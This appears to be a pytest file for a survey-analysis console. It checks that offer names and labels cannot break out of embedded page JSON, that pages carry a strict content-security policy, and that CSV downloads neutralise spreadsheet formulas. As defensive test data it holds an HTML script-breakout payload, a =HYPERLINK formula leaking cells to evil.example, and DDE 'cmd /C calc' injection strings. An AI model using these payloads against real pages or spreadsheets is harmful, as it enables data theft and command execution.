"""Output encoded for where it goes: JSON in the console's pages, the pages' policy, and
CSV downloads whose cells a spreadsheet cannot run (issue 12, findings 1 and 2)."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pandas as pd
import pytest
from _accounts import one_hash_per_password
from _respondent import QUALIFY, TINY, Browser, client, start, tiny
from test_console import PASSWORD, _csrf, _login

from offerlab.data import FORMULA_STARTS, ChoiceData, neutralise_formula, write_csv
from offerlab.exceptions import OfferlabError
from offerlab.field import _auth
from offerlab.report import json_for_html
from offerlab.store import StudyRow, StudyShare, User, Venture
from offerlab.study import parse_study

BREAKOUT = '</script><h1>x</h1><form action="https://evil.example">'
COMMENT = "Theirs <!--<script>"
SEPARATOR = "Line\u2028and\u2029paragraph"
# The study's own labels (a study file uploaded to the console) carry the same.
HOSTILE_STUDY = (
    TINY.read_text(encoding="utf-8")
    .replace("{en: Red, de: Rot}", '{en: "Red </script><h1>y</h1>", de: Rot}')
    .replace("{en: Blue, de: Blau}", '{en: "Blue <!--<script>", de: Blau}')
)
HOSTILE_MARKET = f"""offers:
  - name: {json.dumps(BREAKOUT)}
    ours: true
    price: 15
    colour: red
  - {{name: {json.dumps(COMMENT)}, price: 20, colour: blue}}
  - {{name: "{SEPARATOR.encode("unicode_escape").decode()}", price: 25, colour: red}}
none: true
"""
# Finding 2's cells, and panel parameters straight from the link.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
PANEL = [  # (pid, src) of one respondent each: the query as a link carries it
    ("%3D1%2B1", "%3Dcmd%7C%27%2FC%20calc%27%21A0"),
    ("%09%3D1%2B1", "%0D%3D2%2B2"),  # a leading tab, a leading carriage return
    ("%40SUM%281%2B9%29", "%2B1%2Bcmd"),
    ("-7", "plain"),  # a number stays a number
]


def _console(text: str, tmp_path, name: str):
    """The tiny study (from ``text``) on a venture with an analyst and a shared viewer."""
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    fielding = tiny(f"sqlite:///{tmp_path / name}", text)
    with Session(fielding.engine) as s, s.begin(), one_hash_per_password():
        for email, role in [("analyst@a.ch", "analyst"), ("viewer@a.ch", "viewer")]:
            _auth.add_member(s, "A", email, role, PASSWORD)
        venture = s.execute(select(Venture.id).where(Venture.name == "A")).scalar_one()
        s.get_one(StudyRow, fielding.study_id).venture_id = venture
        viewer = s.execute(select(User.id).where(User.email == "viewer@a.ch")).scalar_one()
        s.add(StudyShare(study_id=fielding.study_id, user_id=viewer))
    return fielding


class _Elements(HTMLParser):
    """The elements of a page as a browser's parser sees them, and the script texts."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: dict[str, str] = {}
        self._script: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._script = dict(attrs).get("id") or ""
            self.scripts[self._script] = ""

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self.scripts[self._script] += data


def publish_hostile_simulator(tmp_path, name: str = "hostile.db"):
    """The hostile study with 30 completes and the hostile market published; the
    fielding and the viewer's client."""
    fielding = _console(HOSTILE_STUDY, tmp_path, name)
    for i in range(30):
        b = Browser(client(fielding), seed=i)
        b.enter(f"/s/tiny?pid=p{i}")
        b.finish({**QUALIFY, "band": {"answer": "old"}})
    analyst = client(fielding)
    _login(analyst, "analyst@a.ch")
    r = analyst.post(
        "/console/studies/tiny/simulator",
        data={"model": "mnl", "market_yaml": HOSTILE_MARKET, "csrf": _csrf(analyst)},
    )
    assert r.status_code == 303, r.text
    return fielding


def _check_simulator_page(html: str) -> None:
    start = html.index('<script id="simulator-data" type="application/json">')
    block = html[start : html.index("</script>", start)]
    # (a) the data block holds no markup a parser could act on, and nothing was injected
    for raw in ("</script", "</", "<!--", "<script", "<h1", "\u2028", "\u2029"):
        assert raw not in block.split(">", 1)[1], raw
    elements = _Elements()
    elements.feed(html)
    assert [t for t, _ in elements.tags].count("h1") == 1  # the page's own heading
    assert not [a for t, a in elements.tags if t == "form" and "evil" in str(a.get("action"))]
    assert not [
        a for t, a in elements.tags if t == "script" and not a.get("id") and not a.get("src")
    ]
    # the data says exactly what the files said
    data = json.loads(elements.scripts["simulator-data"])
    names = [o["name"] for o in data["offers"]]
    assert names == [BREAKOUT, COMMENT, SEPARATOR]
    colour = next(a for a in data["attributes"] if a["name"] == "colour")
    assert colour["labels"] == ["Red </script><h1>y</h1>", "Blue <!--<script>"]


def test_offer_names_and_labels_cannot_break_out_of_the_simulator_page_data(tmp_path) -> None:
    from sqlalchemy.orm import Session

    from offerlab.store import SimulatorRow

    fielding = publish_hostile_simulator(tmp_path)
    viewer = client(fielding)
    _login(viewer, "viewer@a.ch")
    page = viewer.get("/console/studies/tiny/simulator")
    assert page.status_code == 200
    _check_simulator_page(page.text)
    # a simulator stored before the page encoding (plain json.dumps) is safe on the page too
    with Session(fielding.engine) as s, s.begin():
        row = s.query(SimulatorRow).one()
        assert "<" not in row.payload  # stored as the page embeds it
        row.payload = json.dumps(json.loads(row.payload), ensure_ascii=False)
        assert "</script><h1>x</h1>" in row.payload
    _check_simulator_page(viewer.get("/console/studies/tiny/simulator").text)


@pytest.mark.parametrize(
    "value",
    [BREAKOUT, COMMENT, SEPARATOR, {"a": ["<&>", float("nan"), float("inf"), -1.5]}],
)
def test_json_for_html_escapes_markup_and_never_writes_nan(value) -> None:
    text = json_for_html(value)
    assert not set(text) & set("<>&\u2028\u2029")
    assert "NaN" not in text and "Infinity" not in text
    expected = value
    if isinstance(value, dict):
        expected = {"a": ["<&>", None, None, -1.5]}
    assert json.loads(text) == expected


def test_pages_carry_a_policy_that_keeps_forms_and_frames_at_home(tmp_path) -> None:
    fielding = _console(TINY.read_text(encoding="utf-8"), tmp_path, "csp.db")
    c = client(fielding)

    def directives(response) -> dict[str, str]:
        policy = response.headers["content-security-policy"]
        return {d.split()[0]: " ".join(d.split()[1:]) for d in policy.split(";") if d.strip()}

    console = directives(c.get("/console/login"))
    assert console["form-action"] == "'self'"
    assert console["frame-ancestors"] == "'none'"
    assert console["base-uri"] == "'none'"
    assert console["object-src"] == "'none'"
    assert "unsafe-inline" not in console.get("script-src", console["default-src"])
    # a survey page: its forms post to us, and the last one's 303 goes to the panel's
    # origin (Chromium applies form-action to that redirect; test_browser.py follows it).
    # The entry form too: declining consent there is answered by a 303 to the panel.
    entry = c.get("/s/tiny?pid=p1")
    page = c.get(start(c, "/s/tiny?pid=p1"))
    for response in (entry, page):
        assert response.status_code == 200
        survey = directives(response)
        assert survey["form-action"] == "'self' https://panel.test"
        assert survey["frame-ancestors"] == "'none'" and survey["base-uri"] == "'none'"
        assert len(response.headers.get_list("content-security-policy")) == 1


def test_a_panel_redirect_must_name_its_host(tmp_path) -> None:
    text = TINY.read_text(encoding="utf-8").replace(
        "https://panel.test/done?pid={pid}", "https://{pid}.panel.test/done?x=1"
    )
    with pytest.raises(OfferlabError, match=r"redirects\.complete: the panel's host"):
        parse_study(text, "tiny.yaml")


# -- CSV -------------------------------------------------------------------------------------

CSV_STUDY = (
    TINY.read_text(encoding="utf-8")
    .replace("panel_parameters: [pid]", "panel_parameters: [pid, src]")
    .replace("      min: 0\n      max: 9", "      min: -9\n      max: 9")
    + "    - id: comments\n      type: text\n"
    + '      text: {en: "Anything else?", de: "Noch etwas?"}\n'
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_console_downloads_neutralise_formulas_and_keep_numbers(tmp_path) -> None:
    fielding = _console(CSV_STUDY, tmp_path, "csv.db")
    for i, ((pid, src), text) in enumerate(zip(PANEL, FORMULAS, strict=True)):
        b = Browser(client(fielding), seed=i)
        b.enter(f"/s/tiny?pid={pid}&src={src}")
        b.finish(
            {
                **QUALIFY,
                "band": {"answer": "old"},
                "how_many": {"number": "-3"},
                "comments": {"text": text},
            }
        )
    analyst = client(fielding)
    _login(analyst, "analyst@a.ch")
    downloads = {
        what: analyst.get(f"/console/studies/tiny/{what}")
        for what in ("answers.csv", "respondents.csv", "choices.csv")
    }
    for what, r in downloads.items():
        assert r.status_code == 200, what
        for row in _cells(r.text):
            for cell in row:  # nothing a spreadsheet would run
                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (what, cell)
    answers = pd.read_csv(io.StringIO(downloads["answers.csv"].text), dtype=str)
    comments = answers.loc[answers["page"] == "comments", "value"].tolist()
    assert comments == ["'" + t for t in FORMULAS]  # the text kept, behind one quote
    assert answers.loc[answers["page"] == "how_many", "value"].tolist() == ["-3"] * 4
    people = pd.read_csv(io.StringIO(downloads["respondents.csv"].text), keep_default_na=False)
    assert people["pid"].tolist() == ["'=1+1", "'\t=1+1", "'@SUM(1+9)", "-7"]
    assert people["src"].tolist() == ["'=cmd|'/C calc'!A0", "'\r=2+2", "'+1+cmd", "plain"]
    assert people["seconds"].dtype.kind == "f"  # numbers stay numbers
    # the choice data still reads back as it is, for estimate and report
    data = ChoiceData.from_frame(
        pd.read_csv(io.StringIO(downloads["choices.csv"].text)), fielding.study, source="download"
    )
    assert data.n_respondents == 4
    # Parquet stays raw: the values as they were typed
    raw = analyst.get("/console/studies/tiny/choices.parquet")
    assert raw.status_code == 200 and raw.content.startswith(b"PAR1")


def test_the_downloads_feed_estimate_and_report_as_the_readme_says(tmp_path) -> None:
    """Choice data, answers and respondents downloaded from the console go into
    ``offerlab estimate`` and ``offerlab report`` as they are. Level names are identifiers
    (the study's validation refuses a name that starts like a formula), so the choice data
    never carries a neutralised cell; open answers and panel values that do are read as
    text and shown as such."""
    from typer.testing import CliRunner

    from offerlab.cli.main import app

    fielding = _console(CSV_STUDY, tmp_path, "roundtrip.db")
    for i in range(30):
        pid, src = PANEL[i % len(PANEL)]
        b = Browser(client(fielding), seed=i)
        b.enter(f"/s/tiny?pid={pid}{i}&src={src}")
        text = FORMULAS[i % len(FORMULAS)]
        b.finish({**QUALIFY, "band": {"answer": "old"}, "comments": {"text": text}})
    analyst = client(fielding)
    _login(analyst, "analyst@a.ch")
    files = {}
    for what in ("choices.csv", "answers.csv", "respondents.csv"):
        files[what] = tmp_path / what
        files[what].write_bytes(analyst.get(f"/console/studies/tiny/{what}").content)
    assert "'=HYPERLINK" in files["answers.csv"].read_text(encoding="utf-8")
    study = tmp_path / "tiny.yaml"
    study.write_text(CSV_STUDY, encoding="utf-8")
    runner = CliRunner()
    result = runner.invoke(
        app, ["estimate", str(files["choices.csv"]), "--study", str(study), "--out", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    out = tmp_path / "report"
    result = runner.invoke(app, [
        "report", str(files["choices.csv"]), "--study", str(study), "--format", "xlsx",
        "--survey-answers", str(files["answers.csv"]), "--respondents",
        str(files["respondents.csv"]), "--draws", "20", "--out", str(out),
    ])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert (out / "report.xlsx").exists()
    for text in ("-red", "=red", "+red"):  # a level name that starts like a formula: refused
        broken = CSV_STUDY.replace("{name: red,", f"{{name: '{text}',")
        with pytest.raises(OfferlabError, match="levels"):
            parse_study(broken, "tiny.yaml")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79 000 00 00", "'+41 79 000 00 00"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("1e-3", "1e-3"),
        ("'=already", "'=already"),
        ("a=b", "a=b"),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_the_cell_rule(value, shown) -> None:
    assert neutralise_formula(value) == shown


def test_write_csv_keeps_numbers_and_quotes_a_carriage_return() -> None:
    frame = pd.DataFrame({"text": ["\rx", "=1", "-1.5"], "number": [-1.5, 2.0, -3.0]})
    text = write_csv(frame)
    assert text is not None
    assert _cells(text) == [
        ["text", "number"],
        ["'\rx", "-1.5"],
        ["'=1", "2.0"],
        ["-1.5", "-3.0"],
    ]
    back = pd.read_csv(io.StringIO(text))
    assert back["number"].tolist() == [-1.5, 2.0, -3.0]
    assert len(back) == 3  # the carriage return did not split a row


def test_write_csv_gives_labels_plain_spaces_as_the_study_file_wrote_them() -> None:
    """Pages keep "3 mois" and "avez-vous ?" together with no-break spaces; a CSV has no
    lines to break, and a spreadsheet's filter must match the label as written."""
    from offerlab.study import typeset

    label = typeset("Quel âge avez-vous ? 3 mois", "fr")
    assert "\u00a0" in label and "\u202f" in label
    frame = pd.DataFrame({typeset("Durée : 3 mois", "fr"): [label]}, index=[label])
    text = write_csv(frame, index=True)
    assert text is not None and "\u00a0" not in text and "\u202f" not in text
    assert _cells(text)[1] == ["Quel âge avez-vous ? 3 mois"] * 2
    assert frame.iloc[0, 0] == label  # the caller's frame is left as it was
